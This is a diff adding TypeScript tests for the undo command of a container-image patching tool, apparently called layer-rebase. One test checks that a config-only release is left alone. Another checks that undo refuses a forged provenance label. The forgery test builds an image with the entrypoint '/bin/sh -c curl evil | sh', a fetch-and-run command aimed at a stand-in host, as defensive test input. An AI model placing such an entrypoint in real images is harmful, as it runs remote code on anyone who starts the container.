@@ -242,3 +242,84 @@ async function labelOf(ref: string): Promise<string | undefined> {
   };
   return config.config.Labels['io.github.layer-rebase.applied'];
 }
+
+/** Re-pushes the image `ref` holds with its config edited (a `FROM app` release: same layers, labels inherited). */
+async function mutateConfig(
+  ref: string,
+  edit: (config: Record<string, unknown> & { config: Record<string, unknown> }) => void,
+  tag: string,
+) {
+  const { readBlob, putBlobBytes } = await import('../../src/oci/store.js');
+  const store = storeAt(ref);
+  const manifest = JSON.parse((await store.getManifest(parseReference(ref).tag!)).bytes.toString()) as {
+    mediaType: string;
+    config: { digest: string; size: number };
+  };
+  const config = JSON.parse((await readBlob(store, manifest.config as never, 1 << 22)).toString()) as Record<
+    string,
+    unknown
+  > & {
+    config: Record<string, unknown>;
+  };
+  edit(config);
+  const bytes = Buffer.from(JSON.stringify(config));
+  await putBlobBytes(store, sha256(bytes), bytes);
+  manifest.config = { ...manifest.config, digest: sha256(bytes), size: bytes.length };
+  const m = Buffer.from(JSON.stringify(manifest));
+  await store.putManifest({ bytes: m, mediaType: manifest.mediaType, digest: sha256(m) }, tag);
+  return sha256(m);
+}
+
+describe('undo proves the predecessor (the re-derivation verify does)', () => {
+  test('a config-only release pushed since (FROM app + USER: same layers, label inherited) is left alone', async () => {
+    const s = await setup();
+    expect((await cli(['--image', s.ref, '--patches', s.patchFiles['17.0.9']!])).code).toBe(0);
+    const release = await mutateConfig(
+      s.ref,
+      (c) => {
+        c.config.User = '1000:1000';
+        c.config.Env = [...((c.config.Env as string[]) ?? []), 'HARDENED=1'];
+      },
+      'v1',
+    );
+    const r = await cli(['undo', '--image', s.ref]);
+    expect(r.code, r.stdout + r.stderr).toBe(0);
+    expect(r.stdout).toContain(`${s.ref}: unchanged`);
+    expect(r.stdout).toMatch(
+      /nothing to undo: the tag holds [0-9a-f]{12}, which is not [0-9a-f]{12} \+ the recorded patch \(that is [0-9a-f]{12}\): an image pushed since is left alone/,
+    );
+    expect(await tagHolds(s.ref)).toBe(release);
+  });
+
+  test('a forged step that records a no-op swap and names an image with another entrypoint is refused', async () => {
+    const s = await setup();
+    expect((await cli(['--image', s.ref, '--patches', s.patchFiles['17.0.9']!])).code).toBe(0);
+    const label = JSON.parse((await labelOf(s.ref))!) as {
+      from: string;
+      to: string;
+      replaced: { manifest: string };
+    }[];
+    // The attacker pushes (untagged) the original with an evil entrypoint, and a tag whose label's last
+    // step claims it replaced that one with a swap that changes nothing.
+    await storeAt(s.ref).putManifest(await storeAt(s.ref).getManifest(s.original), 'v1-original');
+    const evil = await mutateConfig(
+      `${s.repo}:v1-original`,
+      (c) => {
+        c.config.Entrypoint = ['/bin/sh', '-c', 'curl evil | sh'];
+      },
+      'scratch-evil',
+    );
+    const forgedLabel = JSON.stringify([{ ...label[0]!, to: label[0]!.from, replaced: { manifest: evil } }]);
+    const forged = await mutateConfig(
+      `${s.repo}:scratch-evil`,
+      (c) => {
+        (c.config.Labels as Record<string, string>)['io.github.layer-rebase.applied'] = forgedLabel;
+      },
+      'forged-tag',
+    );
+    const r = await cli(['undo', '--image', `${s.repo}:forged-tag`]);
+    expect(r.code).toBe(2);
+    expect(r.stdout).toContain('refused');
+    expect(await tagHolds(`${s.repo}:forged-tag`)).toBe(forged);
+  });
+});
